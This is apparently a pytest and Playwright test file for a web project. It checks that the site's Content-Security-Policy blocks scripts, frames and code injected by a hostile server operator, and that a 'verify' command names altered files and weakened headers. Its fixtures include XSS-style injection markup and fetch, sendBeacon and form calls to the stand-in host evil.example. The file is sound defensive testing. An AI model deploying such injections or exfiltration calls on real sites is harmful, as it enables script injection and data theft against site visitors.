"""A09: the operator changes the code, adds a script, relaxes a header: blocked, or named."""

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page
from typer.testing import CliRunner

from tests.browser.conftest import chromium  # noqa: F401 - a fixture
from tests.served import until
from tests.site.altered import Operator, altered_site
from touchline.site.commands import app
from touchline.site.room_files import HEADERS

pytestmark = pytest.mark.browser
POLICY = "Content-Security-Policy"
START = "app/start.js"
# Whatever the page's policy stops is written down; what runs in spite of it leaves a mark.
WATCH = """
window.stopped = [];
addEventListener("securitypolicyviolation", (event) => stopped.push(event.violatedDirective));
"""
MARK = "document.documentElement.dataset.ran = 'yes';"
INTO_THE_PAGE = {
    "a script in it": (f"<script>{MARK}</script>", "script-src-elem"),
    "a handler in it": (f'<img src="data:," onerror="{MARK}">', "script-src-attr"),
    "a script of another house": ('<script src="https://evil.example/x.js"></script>',
                                  "script-src-elem"),
    "a sheet of another house": ('<link rel="stylesheet" href="https://evil.example/x.css">',
                                 "style-src-elem"),
    "a sheet in it": ("<style>p { color: red }</style>", "style-src-elem"),
    "a picture that tells": ('<img src="https://evil.example/x.png">', "img-src"),
    "a frame": ('<iframe src="https://evil.example/"></iframe>', "frame-src"),
    "another base": ('<base href="https://evil.example/">', "base-uri"),
}  # fmt: skip
INTO_THE_CODE = {
    "text that runs": (f'setTimeout("{MARK}")', "require-trusted-types-for"),
    "markup from text": (
        'document.body.innerHTML = "<img src=x>"',
        "require-trusted-types-for",
    ),
    "a script made by hand": ('document.createElement("script").src = "/room/app/evil.js"',
                              "require-trusted-types-for"),
    "a worker": ('new Worker("/room/app/evil.js")', "require-trusted-types-for"),
    "a policy of its own": ('trustedTypes.createPolicy("mine", {})', "trusted-types"),
    "a line to another house": ('fetch("https://evil.example/")', "connect-src"),
    "a beacon": ('navigator.sendBeacon("https://evil.example/", "x")', "connect-src"),
    "a form": ("""
        const form = document.createElement("form");
        form.action = "https://evil.example/";
        document.body.append(form);
        form.submit()""", "form-action"),
}  # fmt: skip


@pytest.fixture
def operator() -> Iterator[Operator]:
    """Who runs the server on which the page lies."""
    with altered_site() as one:
        yield one


@pytest.fixture
def page(chromium: Browser, operator: Operator) -> Iterator[Page]:  # noqa: F811
    """A browser that has not been there before; it is not sent on to sign in."""
    context = chromium.new_context()
    context.add_init_script(WATCH)
    context.route("**/room/authorise/**", lambda route: route.fulfill(status=204))
    yield context.new_page()
    context.close()


def add_to_the_page(operator: Operator, markup: str) -> None:
    operator.bodies[""] = lambda body: body.replace(b"<title>", markup.encode() + b"<title>")


def add_to_the_code(operator: Operator, line: str) -> None:
    operator.bodies[START] = lambda body: body + f"\n;{{{line}}}\n".encode()


def stopped(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.stopped")
    return found


def ran(page: Page) -> bool:
    return page.locator("html").get_attribute("data-ran") is not None


def named(operator: Operator) -> set[str]:
    """What `touchline verify` names, file by file."""
    told: Any = json.loads(CliRunner().invoke(app, ["verify", operator.address, "--json"]).stdout)
    return {one["file"] for one in told["differences"]}


def test_of_the_page_as_published_nothing_is_stopped(page: Page, operator: Operator) -> None:
    page.goto(operator.address, wait_until="networkidle")
    assert stopped(page) == []


@pytest.mark.parametrize("what", INTO_THE_PAGE)
def test_what_was_added_to_the_page_is_stopped(page: Page, operator: Operator, what: str) -> None:
    markup, directive = INTO_THE_PAGE[what]
    add_to_the_page(operator, markup)
    page.goto(operator.address)
    until(lambda: directive in stopped(page), f"{directive} stops something")
    assert not ran(page)


@pytest.mark.parametrize("what", INTO_THE_CODE)
def test_what_was_added_to_the_code_is_stopped(page: Page, operator: Operator, what: str) -> None:
    line, directive = INTO_THE_CODE[what]
    add_to_the_code(operator, line)
    page.goto(operator.address, wait_until="commit")  # a form on its way never loads
    until(lambda: directive in stopped(page), f"{directive} stops something")
    assert not ran(page)


def test_without_its_header_the_page_itself_says_what_may_run(
    page: Page, operator: Operator
) -> None:
    operator.headers[POLICY] = ""
    add_to_the_page(operator, f"<script>{MARK}</script>")
    page.goto(operator.address)
    until(lambda: "script-src-elem" in stopped(page), "the page's own policy stops the script")
    assert not ran(page)


def test_code_that_a_browser_cannot_tell_from_ours_is_named(page: Page, operator: Operator) -> None:
    """No policy stops a server that alters its own files: that is what comparing is for."""
    add_to_the_code(operator, MARK)
    page.goto(operator.address)
    until(lambda: ran(page), "the altered code runs")
    assert named(operator) == {START}


def test_a_script_laid_beside_ours_is_named(page: Page, operator: Operator) -> None:
    operator.added["app/evil.js"] = ("text/javascript", MARK.encode())
    add_to_the_page(operator, '<script type="module" src="app/evil.js"></script>')
    page.goto(operator.address)
    until(lambda: ran(page), "the added script runs")
    assert named(operator) == {"", "app/evil.js"}


@pytest.mark.parametrize("loosened", ["script-src", "connect-src", "trusted-types", "base-uri"])
def test_a_header_that_lets_more_through_is_named(operator: Operator, loosened: str) -> None:
    rules = [one for one in HEADERS[POLICY].split("; ") if not one.startswith(loosened)]
    operator.headers[POLICY] = "; ".join(rules)
    assert "" in named(operator)
